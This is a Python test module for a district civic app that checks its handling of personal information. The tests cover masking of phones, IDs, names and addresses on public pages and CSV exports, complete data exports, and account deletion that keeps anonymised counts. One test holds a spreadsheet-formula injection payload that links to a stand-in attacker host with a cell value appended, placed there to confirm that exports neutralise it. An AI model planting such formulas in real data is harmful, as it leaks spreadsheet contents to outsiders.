"""Personal information (PIPL) on the full app: masked on public pages and in CSV exports, all of it in a
resident's data export, and erased with their account while their inquiries stay, anonymised, in the rates."""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient
from test_abuse_limits import EN, GOOD_ID, GP, T, World, count, full_app, png, post_form, resident

from newsplus import db, frozen_clock
from newsplus.content.tables import Comment, Reaction
from newsplus.notifications.tables import Contact, Notification
from newsplus.testing import HTML, bearer, call, page_text
from newsplus.users.tables import User
from newsplus_activities.tables import Coupon, Registration, Vote
from newsplus_govinfo.tables import Subscription
from newsplus_services.tables import Application, ApplicationFile, Booking
from newsplus_wenzheng.tables import Inquiry

PHONE = "13912345678"
NAME = "张三丰"
ADDRESS = "天通苑北一区3号楼2单元501"
ID_FORM = [{"name": "id", "label": "身份证号", "type": "id_number", "required": True}]
# What must never show where the public (or a spreadsheet) reads: the whole number, the whole ID, the room.
SECRETS = (PHONE, GOOD_ID, "2单元501", NAME)

SLOTS = itertools.count()
TOMORROW_8AM = datetime(2026, 11, 26, 0, 0, tzinfo=UTC)  # the general clinic's first slot on Thursday
_SHARED: dict[str, World] = {}


@pytest.fixture(scope="module")
def district(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The full app on SQLite shared by this module's tests, each with residents of its own."""
    media = tmp_path_factory.mktemp("media")
    with frozen_clock(T), TestClient(full_app(media)) as client:
        _SHARED["district"] = World(client, media)
        yield _SHARED["district"]
        del _SHARED["district"]


@pytest.fixture
def own_app() -> Iterator[None]:
    """Building an app points every piccolo table at its database: point them back at the shared one after."""
    yield
    if "district" in _SHARED:
        newsplus = _SHARED["district"].client.app.state.newsplus
        db.activate(newsplus.engine, newsplus.piccolo_apps)


def take_in_and_reply(world: World, token: str, reply: str = "已联系居民，垃圾已清运。") -> None:
    """The dispatcher takes an inquiry in and sends it to the street, which signs for it and replies."""
    for action, body in (
        ("accept", {}),
        ("dispatch", {"department": world.street}),
        ("sign", {}),
        ("reply", {"note": reply}),
    ):
        world.send("POST", f"/api/v1/wenzheng/inquiries/{token}/{action}", body, expect=200)


class Life:
    """Everything one resident does in the district, each kept as the app answered it."""

    def __init__(self, world: World, phone: str = PHONE, slug: str = "life") -> None:
        self.world, self.client = world, world.client
        self.token = resident(self.client, phone)
        self.who = {**bearer(self.token), **EN}
        self.inquiry = world.inquiry(
            self.who,
            body=f"我住{ADDRESS}，楼下垃圾一周没人清运。",
            address=ADDRESS,
            contact_name=NAME,
            contact_phone=PHONE,
        )["token"]
        take_in_and_reply(world, self.inquiry)
        photo = self.post("/api/v1/services/uploads", files={"file": ("cert.png", png(), "image/png")})
        answers = {
            "mother_name": "李娜",
            "mother_id_number": GOOD_ID,
            "expected_date": "2027-03-01",
            "phone": PHONE,
            "marriage_certificate": photo["token"],
        }
        self.application = self.post("/api/v1/services/modules/birth/applications", json={"answers": answers})
        at = (TOMORROW_8AM + timedelta(minutes=15 * next(SLOTS))).isoformat()  # a slot of their own
        self.booking = self.post(f"{GP}/bookings", json={"starts_at": at, "name": NAME, "phone": PHONE})
        self.post("/api/v1/services/favourites/birth", expect=204)
        self.activity = world.activity(f"{slug}-fair", form=ID_FORM)
        registration = {"name": NAME, "phone": PHONE, "answers": {"id": GOOD_ID}}
        self.registration = self.post(f"/api/v1/activities/{slug}-fair/registrations", json=registration)
        self.contest, self.candidate = world.contest(f"{slug}-contest")
        self.post(f"/api/v1/activities/{slug}-contest/votes", json={"candidate": self.candidate})
        self.coupon = self.post(f"/api/v1/activities/coupons/{world.coupons()}/claim")
        self.post("/api/v1/govinfo/subscriptions", json={"kind": "category", "value": "社保"}, expect=204)
        self.article = world.article(f"{slug}：垃圾分类新规下月施行")
        self.post(f"/api/v1/articles/{self.article}/favourite", expect=200)
        self.post(f"/api/v1/articles/{self.article}/comments", json={"body": "希望多设几个回收点"})
        preferences = {"modes": {}, "email": "zhang@example.com"}
        answer = self.client.put("/api/v1/me/notification-preferences", json=preferences, headers=self.who)
        assert answer.status_code == 200, answer.text
        self.id = self.client.get("/api/v1/me", headers=self.who).json()["id"]

    def post(self, path: str, expect: int = 201, **kwargs: Any) -> Any:
        answer = self.client.post(path, headers=self.who, **kwargs)
        assert answer.status_code == expect, (path, answer.text)
        return answer.json() if answer.content else None


def public_text(client: TestClient, url: str) -> str:
    """A page as an anonymous visitor reads it."""
    client.cookies.delete("newsplus_session")
    answer = client.get(url, headers=HTML)
    assert answer.status_code == 200, (url, answer.text[:1000])
    return page_text(answer.text)


def shown(texts: list[str]) -> list[str]:
    """The secrets any of the texts shows."""
    return [secret for secret in SECRETS if any(secret in text for text in texts)]


# -- masked where the public reads ---------------------------------------------------------------------------


def test_a_public_inquiry_shows_masked_contact_details_on_its_page_the_board_and_the_api(district: World) -> None:
    client = district.client
    token = district.resident()
    made = district.inquiry(
        {**bearer(token), **EN},
        title=f"{ADDRESS}楼下垃圾没人清运",
        body=f"电话{PHONE}，身份证{GOOD_ID}，住{ADDRESS}。",
        address=ADDRESS,
        contact_name=NAME,
        contact_phone=PHONE,
    )
    take_in_and_reply(district, made["token"], reply=f"已联系居民（{PHONE}），垃圾已清运。")
    texts = [
        public_text(client, f"/wenzheng/{made['token']}"),
        public_text(client, "/wenzheng"),
        json.dumps(client.get(f"/api/v1/wenzheng/inquiries/{made['token']}").json(), ensure_ascii=False),
        json.dumps(client.get("/api/v1/wenzheng/board").json(), ensure_ascii=False),
    ]
    assert shown(texts) == []
    assert "139****5678" in texts[0] and "张**" in texts[0]  # masked, not dropped
    # The owner still reads all of it.
    owner = client.get(f"/api/v1/wenzheng/inquiries/{made['token']}", headers=bearer(token)).json()
    assert owner["contact_phone"] == PHONE and owner["address"] == ADDRESS


def test_a_name_written_into_a_public_reply_is_masked(district: World) -> None:
    made = district.inquiry({**bearer(district.resident()), **EN}, contact_name=NAME)
    take_in_and_reply(district, made["token"], reply=f"已联系{NAME}，垃圾已清运。")
    assert NAME not in public_text(district.client, f"/wenzheng/{made['token']}")


def test_activity_pages_never_show_who_registered_or_voted(district: World) -> None:
    client = district.client
    district.activity("open-fair", form=ID_FORM)
    _, candidate = district.contest("open-contest")
    who = {**bearer(district.resident()), **EN}
    registration = {"name": NAME, "phone": PHONE, "answers": {"id": GOOD_ID}}
    assert client.post("/api/v1/activities/open-fair/registrations", json=registration, headers=who).status_code == 201
    assert (
        client.post("/api/v1/activities/open-contest/votes", json={"candidate": candidate}, headers=who).status_code
        == 201
    )
    texts = [
        public_text(client, "/activities"),
        public_text(client, "/activities/open-fair"),
        public_text(client, "/activities/open-contest"),
        public_text(client, "/activities/open-contest/results"),
        client.get("/api/v1/activities/open-fair").text,
        client.get("/api/v1/activities/open-contest/results").text,
        client.get("/api/v1/activities/calendar.ics").text,
    ]
    assert shown(texts) == []


def test_candidate_lists_mask_numbers_written_in_a_proposal(district: World) -> None:
    client = district.client
    activity, _ = district.contest("proposals")
    proposal = {"name": "孙大爷", "description": f"热心肠，联系电话{PHONE}，身份证{GOOD_ID}，住{ADDRESS}"}
    made = client.post("/api/v1/activities/proposals/candidates", json=proposal, headers=bearer(district.resident()))
    assert made.status_code == 201, made.text
    district.send("POST", f"/api/v1/activities/desk/candidates/{made.json()['id']}", {"status": "approved"}, expect=204)
    texts = [
        public_text(client, "/activities/proposals"),
        public_text(client, "/activities/proposals/results"),
        client.get("/api/v1/activities/proposals").text,
        client.get("/api/v1/activities/proposals/results").text,
    ]
    assert "孙大爷" in texts[0] and shown(texts) == []


# -- CSV exports ---------------------------------------------------------------------------------------------


def rows_of(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))


def test_the_registrations_csv_masks_phones_and_id_numbers_on_the_desk_and_the_api(district: World) -> None:
    activity = district.activity("csv-fair", form=ID_FORM)
    who = {**bearer(district.resident()), **EN}
    registration = {"name": NAME, "phone": PHONE, "answers": {"id": GOOD_ID}}
    assert (
        district.client.post("/api/v1/activities/csv-fair/registrations", json=registration, headers=who).status_code
        == 201
    )
    from_api = rows_of(
        district.client.get(f"/api/v1/activities/desk/activities/{activity}/registrations.csv", headers=district.admin)
    )
    district.client.cookies.set("newsplus_session", district.admin_token)
    from_desk = rows_of(district.client.get(f"/desk/activities/{activity}/registrations.csv", headers=HTML))
    for rows in (from_api, from_desk):
        header, [row] = rows[0], rows[1:]
        assert dict(zip(header, row, strict=True)) | {"registered_at": ""} == {
            "name": NAME,  # the organiser calls the roll by name
            "phone": "139****5678",
            "seats": "1",
            "status": "registered",
            "身份证号": "110105********002X",
            "registered_at": "",
            "checked_in_at": "",
        }


def test_the_registrations_csv_masks_every_phone_field_of_the_form(district: World) -> None:
    form = [{"name": "emergency", "label": "紧急联系人电话", "type": "phone", "required": True}]
    activity = district.activity("csv-phone", form=form)
    who = {**bearer(district.resident()), **EN}
    answer = district.client.post(
        "/api/v1/activities/csv-phone/registrations", json={"answers": {"emergency": PHONE}}, headers=who
    )
    assert answer.status_code == 201, answer.text
    rows = rows_of(
        district.client.get(f"/api/v1/activities/desk/activities/{activity}/registrations.csv", headers=district.admin)
    )
    assert PHONE not in json.dumps(rows), rows


def test_the_registrations_csv_neutralises_spreadsheet_formulas(district: World) -> None:
    activity = district.activity("csv-formula")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    who = {**bearer(district.resident()), **EN}
    answer = district.client.post("/api/v1/activities/csv-formula/registrations", json={"name": formula}, headers=who)
    assert answer.status_code == 201, answer.text
    rows = rows_of(
        district.client.get(f"/api/v1/activities/desk/activities/{activity}/registrations.csv", headers=district.admin)
    )
    names = [row[0] for row in rows[1:]]
    assert names and not any(name.startswith(("=", "+", "-", "@")) for name in names), names


def test_the_rates_csv_holds_no_personal_details(district: World) -> None:
    made = district.inquiry(
        {**bearer(district.resident()), **EN}, contact_name=NAME, contact_phone=PHONE, address=ADDRESS
    )
    take_in_and_reply(district, made["token"])
    for by in ("department", "street", "category", "month"):
        answer = district.client.get(f"/api/v1/wenzheng/rates?month=2026-11&by={by}&format=csv", headers=district.admin)
        assert answer.status_code == 200 and answer.text.strip(), (by, answer.text)
        assert shown([answer.text]) == [], by


# -- the resident's data export ------------------------------------------------------------------------------


def test_the_data_export_holds_everything_a_resident_did_in_every_plugin(district: World) -> None:
    life = Life(district, phone="13912345001", slug="export")
    from_api = district.client.get("/api/v1/me/export", headers=life.who)
    district.client.cookies.set("newsplus_session", life.token)
    for answer in (from_api, district.client.get("/me/export")):
        assert answer.status_code == 200, answer.text
        data = answer.json()
        assert data["profile"]["phone"] == "13912345001"
        [inquiry] = data["wenzheng"]
        assert inquiry["token"] == life.inquiry and inquiry["contact_phone"] == PHONE and inquiry["address"] == ADDRESS
        [application] = data["services"]["applications"]
        assert application["number"] == life.application["number"]
        assert json.dumps(application, ensure_ascii=False).count(GOOD_ID) >= 1
        assert [b["token"] for b in data["services"]["bookings"]] == [life.booking["token"]]
        assert data["services"]["favourites"] == ["birth"]
        assert [r["token"] for r in data["activities"]["registrations"]] == [life.registration["token"]]
        assert [v["candidate"] for v in data["activities"]["votes"]] == ["王奶奶"]
        assert [c["code"] for c in data["activities"]["coupons"]] == [life.coupon["code"]]
        assert data["govinfo"]["category"] == ["社保"]
    assert "attachment" in answer.headers["content-disposition"]


def test_the_data_export_holds_the_residents_favourite_articles_comments_and_email(district: World) -> None:
    life = Life(district, phone="13912345002", slug="export-core")
    text = json.dumps(district.client.get("/api/v1/me/export", headers=life.who).json(), ensure_ascii=False)
    assert "垃圾分类新规下月施行" in text  # the article kept among favourites
    assert "希望多设几个回收点" in text  # the comment written
    assert "zhang@example.com" in text  # the e-mail address given for notifications


# -- deleting the account ------------------------------------------------------------------------------------


@pytest.fixture
def life(tmp_path: Path, newsplus_database_url: str, light_passwords: None, own_app: None) -> Iterator[Life]:
    """A resident's life in a district of its own, on SQLite, then PostgreSQL."""
    media = tmp_path / "media"
    with frozen_clock(T), TestClient(full_app(media, database_url=newsplus_database_url)) as client:
        yield Life(World(client, media))


def rates(world: World) -> list[dict]:
    answer = world.client.get("/api/v1/wenzheng/rates?month=2026-11&by=month", headers=world.admin)
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_deleting_the_account_erases_personal_data_and_keeps_the_counts(life: Life) -> None:
    world, client = life.world, life.client
    before = {"rates": rates(world), "results": client.get("/api/v1/activities/life-contest/results").json()}
    counts = {t.__name__: count(client, t) for t in (Inquiry, Application, Booking, Registration, Vote, Coupon)}
    files = world.files()
    assert len(files) >= 2  # the certificate and its thumbnail

    deleted = client.delete("/api/v1/me", headers=life.who)
    assert deleted.status_code in (200, 204), deleted.text
    assert client.get("/api/v1/me", headers=life.who).status_code == 401

    # The inquiry stays in the statistics and on the board, with nothing that leads to its writer.
    assert rates(world) == before["rates"]
    assert client.get("/api/v1/activities/life-contest/results").json() == before["results"]
    assert {t.__name__: count(client, t) for t in (Inquiry, Application, Booking, Registration, Vote, Coupon)} == counts
    public = public_text(client, f"/wenzheng/{life.inquiry}")
    assert "张*" not in public and "139****5678" not in public
    assert "单元*" in public and "3号楼" not in public  # the text keeps its masked address only
    staff_view = world.send("GET", f"/api/v1/wenzheng/inquiries/{life.inquiry}")
    assert (staff_view["contact_name"], staff_view["contact_phone"], staff_view["address"]) == ("", "", "")
    assert staff_view["title"] and staff_view["status"] == "replied"

    # Each plugin's own records keep no name, number or answer of theirs.
    application = world.send("GET", f"/api/v1/services/applications/{life.application['token']}")
    assert "李娜" not in json.dumps(application, ensure_ascii=False) and GOOD_ID not in json.dumps(application)

    async def leftovers() -> dict[str, Any]:
        return {
            "bookings": await Booking.select(Booking.name, Booking.phone, Booking.user),
            "registrations": await Registration.select(Registration.name, Registration.phone, Registration.answers),
            "votes": await Vote.count().where(Vote.user == life.id),
            "coupons": await Coupon.count().where(Coupon.user == life.id),
            "files": await ApplicationFile.count(),
            "subscriptions": await Subscription.count().where(Subscription.user == life.id),
            "user": await User.select(User.phone, User.display_name, User.is_active).where(User.id == life.id).first(),
        }

    assert call(client, leftovers) == {
        "bookings": [{"name": "", "phone": "", "user": None}],
        "registrations": [{"name": "", "phone": "", "answers": "{}"}],
        "votes": 0,
        "coupons": 0,
        "files": 0,
        "subscriptions": 0,
        "user": {"phone": None, "display_name": "已注销用户", "is_active": False},
    }
    assert [f for f in files if f.exists()] == []  # the certificate and its thumbnail are gone
    csv_rows = rows_of(
        client.get(f"/api/v1/activities/desk/activities/{life.activity}/registrations.csv", headers=world.admin)
    )
    assert shown([json.dumps(csv_rows, ensure_ascii=False)]) == []

    # The same number signs up afresh: a new account that inherits nothing.
    again = {**bearer(resident(client, PHONE)), **EN}
    fresh = client.get("/api/v1/me/export", headers=again).json()
    assert fresh["profile"]["id"] != life.id
    assert fresh["wenzheng"] == [] and fresh["services"]["applications"] == [] and fresh["activities"]["votes"] == []


def test_the_account_page_deletes_the_account_and_signs_the_browser_out(district: World) -> None:
    life = Life(district, phone="13912345003", slug="page-delete")
    answer = post_form(district.client, "/me/delete", {}, life.token)
    assert answer.status_code == 303
    assert any(
        c.startswith("newsplus_session=;") or 'newsplus_session=""' in c for c in answer.headers.get_list("set-cookie")
    )
    assert district.client.get("/api/v1/me", headers=life.who).status_code == 401
    staff_view = district.send("GET", f"/api/v1/wenzheng/inquiries/{life.inquiry}")
    assert staff_view["contact_phone"] == "" and staff_view["address"] == ""


def test_a_certificate_replaced_in_a_supplement_is_erased_with_the_account(district: World) -> None:
    token = resident(district.client, "13912345006")
    who = {**bearer(token), **EN}

    def upload() -> str:
        answer = district.client.post(
            "/api/v1/services/uploads", files={"file": ("c.png", png(), "image/png")}, headers=who
        )
        assert answer.status_code == 201, answer.text
        return answer.json()["token"]

    before = district.files()
    answers = {"mother_name": "李娜", "mother_id_number": GOOD_ID, "expected_date": "2027-03-01", "phone": PHONE}
    url = "/api/v1/services/modules/birth/applications"
    made = district.client.post(url, json={"answers": answers | {"marriage_certificate": upload()}}, headers=who)
    assert made.status_code == 201, made.text
    application = made.json()["token"]
    district.send("POST", f"/api/v1/services/applications/{application}/accept", {"note": ""}, expect=200)
    district.send(
        "POST", f"/api/v1/services/applications/{application}/request_info", {"note": "请上传清晰的结婚证"}, expect=200
    )
    again = {"answers": answers | {"marriage_certificate": upload()}, "note": "已重新上传"}
    supplied = district.client.post(f"/api/v1/services/applications/{application}/supplement", json=again, headers=who)
    assert supplied.status_code == 200, supplied.text
    assert district.client.delete("/api/v1/me", headers=who).status_code in (200, 204)
    assert district.files() - before == set()  # neither the first certificate nor the second one is kept


def test_deleting_the_account_forgets_its_email_and_notifications(district: World) -> None:
    life = Life(district, phone="13912345004", slug="forget-email")
    while call(district.client, district.client.app.state.newsplus.dispatcher.deliver_pending):
        pass  # the resident is told of each step: the inbox fills

    async def inbox() -> int:
        return await Notification.count().where(Notification.user == life.id)

    assert call(district.client, inbox) >= 3
    assert district.client.delete("/api/v1/me", headers=life.who).status_code in (200, 204)

    async def kept() -> dict[str, int]:
        return {
            "emails": await Contact.count().where(Contact.user == life.id),
            "notifications": await Notification.count().where(Notification.user == life.id),
        }

    assert call(district.client, kept) == {"emails": 0, "notifications": 0}


def test_deleting_the_account_masks_the_numbers_written_into_its_inquiries(district: World) -> None:
    token = district.resident()
    made = district.inquiry({**bearer(token), **EN}, body=f"我的电话{PHONE}，身份证{GOOD_ID}，住{ADDRESS}。")
    assert district.client.delete("/api/v1/me", headers=bearer(token)).status_code in (200, 204)
    staff_view = json.dumps(district.send("GET", f"/api/v1/wenzheng/inquiries/{made['token']}"), ensure_ascii=False)
    assert PHONE not in staff_view and GOOD_ID not in staff_view


def test_deleting_the_account_keeps_the_article_counts_and_hides_the_commenters_name(district: World) -> None:
    life = Life(district, phone="13912345005", slug="comments")

    async def comments() -> list[dict]:
        return await Comment.select(Comment.id).where(Comment.user == life.id)

    for comment in [row["id"] for row in call(district.client, comments)]:
        district.send("POST", f"/api/v1/content/comments/{comment}", {"decision": "approve"}, expect=200)
    likes = call(district.client, Reaction.count)
    assert district.client.delete("/api/v1/me", headers=life.who).status_code in (200, 204)
    page = public_text(district.client, f"/articles/{life.article}")
    assert "希望多设几个回收点" in page and "居民5005" not in page and "已注销用户" in page
    assert call(district.client, Reaction.count) == likes
